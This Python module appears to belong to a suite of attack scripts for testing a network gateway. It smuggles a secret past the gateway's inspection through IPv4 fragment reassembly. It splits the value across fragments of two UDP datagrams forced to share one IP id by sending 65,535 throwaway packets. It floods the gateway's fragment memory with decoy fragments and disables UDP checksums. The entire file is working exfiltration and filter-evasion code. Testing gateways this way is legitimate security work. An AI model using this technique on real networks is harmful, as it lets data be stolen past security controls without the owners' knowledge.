"""Two UDP datagrams in fragments under one IP id: the receiver puts a third together of them.

Of the first, the second fragment is stopped (it holds a decoy that any policy stops); the receiver
keeps its first fragment, which ends with half of the value. Of the second, the first fragment
comes too late to replace that one, and the second fragment begins with the other half. The kernel
numbers datagrams of a connected socket one after the other: 65,535 small ones lie between.
`flood`: before and between, so many other datagrams whose second fragment is stopped, to fill
what the gateway remembers of such.
Without a gateway nothing is stopped, so the value is also sent as it is, once.
"""

from __future__ import annotations

import ipaddress
import socket
import time

from attacks.target import Impossible, Target, refused

SO_NO_CHECK = 11
IP_MTU_DISCOVER, IP_PMTUDISC_DONT = 10, 0
FIRST = 1480 - 8  # bytes of payload in the first fragment, at an MTU of 1500
IDS = 1 << 16
FORGOTTEN = 10_000
DECOY = b" 4111 1111 1111 1111 "


def main(target: Target) -> None:
    """One pair, and the value as it is."""
    if target.family != 4:  # noqa: PLR2004 - IP version
        raise Impossible("ids of IPv6 fragments are random")
    cut = len(target.secret) // 2
    first, second = target.secret[:cut], target.secret[cut:]
    lead = b"." * (FIRST - cut - 1) + b" "
    count = int(target.args.get("flood", 0))
    flood(target, count)
    made = fragmenting()
    made.connect((target.address, target.port))
    filler = b" and so on," * 20
    with refused():
        made.send(lead + first + DECOY + filler[len(DECOY) - len(second) :])
    made.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 1)  # they need not arrive
    for number in range(IDS - 1):
        with refused():
            made.send(b"")
        if number % 4096 == 0:
            time.sleep(0.01)
    made.setsockopt(socket.IPPROTO_IP, socket.IP_TTL, 64)
    flood(target, min(count, FORGOTTEN))
    with refused():
        made.send(b"." * FIRST + second + filler)
    with refused():
        made.send(target.payload)
    time.sleep(0.3)


def fragmenting() -> socket.socket:
    """A socket whose datagrams bear no checksum and may be cut."""
    made = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
    made.setsockopt(socket.SOL_SOCKET, SO_NO_CHECK, 1)
    made.setsockopt(socket.IPPROTO_IP, IP_MTU_DISCOVER, IP_PMTUDISC_DONT)
    return made


def flood(target: Target, count: int) -> None:
    """Datagrams to nowhere, the second fragment of each with the decoy."""
    base = int(ipaddress.IPv4Network(target.flooded)[1])
    message = b"." * FIRST + DECOY
    with fragmenting() as made:
        for number in range(count):
            with refused():
                made.sendto(message, (str(ipaddress.IPv4Address(base + number % 60000)), 9))
